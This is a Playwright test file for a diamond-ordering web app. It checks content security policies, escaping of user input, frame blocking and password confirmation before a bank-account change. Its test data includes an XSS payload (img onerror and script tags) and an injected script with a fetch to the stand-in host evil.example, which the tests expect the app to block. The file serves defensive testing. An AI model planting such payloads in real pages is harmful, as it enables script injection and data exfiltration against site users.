import { expect, type Page } from '@playwright/test';
import { accounts, loginBody } from '../../support/accounts.ts';
import { signIn, signInByForm } from '../../support/browser-steps.ts';
import { realServer, test, testedServer } from '../../support/server-fixture.ts';

const server = testedServer();

const hostile = `"><img src=x onerror="window.owned=1"><script>window.owned=1</script>\u202eevil`;

/** Collects the console messages about the content security policy. */
function violationsOf(page: Page): string[] {
  const found: string[] = [];
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) found.push(message.text());
  });
  return found;
}

test(
  'the app and the reference work under their content security policies, which block injected scripts',
  realServer('the server sets the policies of the pages'),
  async ({ page }) => {
    const violations = violationsOf(page);
    await signInByForm(page, server.url, accounts.admin);
    for (const path of ['/diamonds', '/orders', '/api/docs']) {
      await page.goto(`${server.url}${path}`);
      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    }
    expect(violations).toEqual([]);
    await page.goto(`${server.url}/orders`);
    const tried = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.owned = 1';
      document.body.append(script);
      const link = document.createElement('a');
      link.setAttribute('onclick', 'window.owned = 1');
      link.click();
      const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      );
      return [(window as { owned?: number }).owned ?? 'clean', sent];
    });
    expect(tried).toEqual(['clean', 'refused']);
    expect(violations.length).toBeGreaterThan(1);
  },
);

test('markup in user input is displayed as text', async ({ page, request }) => {
  const login = loginBody(accounts.buyer);
  const { token } = await (await request.post(`${server.url}/api/auth/login`, { data: login })).json();
  const headers = { token };
  const found = await request.post(`${server.url}/api/diamond/search`, { headers, data: { pageSize: 1 } });
  const { id, total_amount: amount } = (await found.json()).data.data[0];
  const data = { remark: hostile, diamondIdWithAmount: [{ id, amount }] };
  expect((await request.post(`${server.url}/api/diamond/order`, { headers, data })).status()).toBe(200);
  await signIn(page, server.url, accounts.admin);
  await page.goto(`${server.url}/orders`);
  await expect(page.getByText('window.owned=1').first()).toBeVisible();
  expect(await page.evaluate(() => (window as { owned?: number }).owned)).toBeUndefined();
});

test(
  'pages of other origins cannot frame the app',
  realServer('the server sets the policies of the pages'),
  async ({ page }) => {
    await page.goto('about:blank');
    await page.setContent(`<iframe src="${server.url}/login" title="framed"></iframe>`);
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  },
);

test(
  'an admin is asked for the password before the bank account changes, and loses nothing of the form',
  realServer('changes the account that customers pay into'),
  async ({ page }) => {
    await signIn(page, server.url, accounts.admin);
    await page.goto(`${server.url}/settings?tab=bank`);
    // The first save is refused as one ten minutes after the sign-in, which no test waits for.
    const refusal = { error: 'Confirm with your password that it is you.', code: 'password_required' };
    let refused = 0;
    await page.route('**/api/misc/config', (route) => {
      if (route.request().method() !== 'PUT' || refused > 0) return route.continue();
      refused += 1;
      return route.fulfill({ status: 403, json: refusal });
    });
    await page.getByRole('button', { name: 'Edit', exact: true }).click();
    const form = page.getByRole('form', { name: 'Bank details' });
    await form.getByRole('textbox', { name: /^Bank/ }).fill('First Bank of Antwerp');
    await form.getByRole('button', { name: 'Save', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'Confirm it is you' });
    await dialog.getByLabel('Password', { exact: true }).fill('not-the-password');
    await dialog.getByRole('button', { name: 'Confirm' }).click();
    await expect(dialog.getByText('The current password is wrong')).toBeVisible();
    await dialog.getByLabel('Password', { exact: true }).fill(accounts.admin.password);
    await dialog.getByRole('button', { name: 'Confirm' }).click();
    // In this order: the form is hidden while the dialog is open, and is sent again after it.
    await expect(dialog).toHaveCount(0);
    await expect(form).toHaveCount(0);
    await page.reload();
    await expect(page.getByText('First Bank of Antwerp')).toBeVisible();
  },
);
